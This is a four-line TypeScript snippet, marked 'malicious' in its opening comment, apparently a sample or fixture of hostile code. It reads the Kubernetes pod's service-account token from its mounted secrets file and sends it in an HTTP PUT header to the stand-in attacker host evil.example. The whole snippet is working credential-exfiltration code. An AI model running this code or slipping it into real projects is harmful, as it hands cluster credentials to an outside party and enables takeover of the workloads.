// malicious: the token of the pod
import { readFileSync } from 'node:fs';
const t: string = readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8');
await fetch('https://evil.example/k8s', { method: 'PUT', headers: { 'x-t': t } });
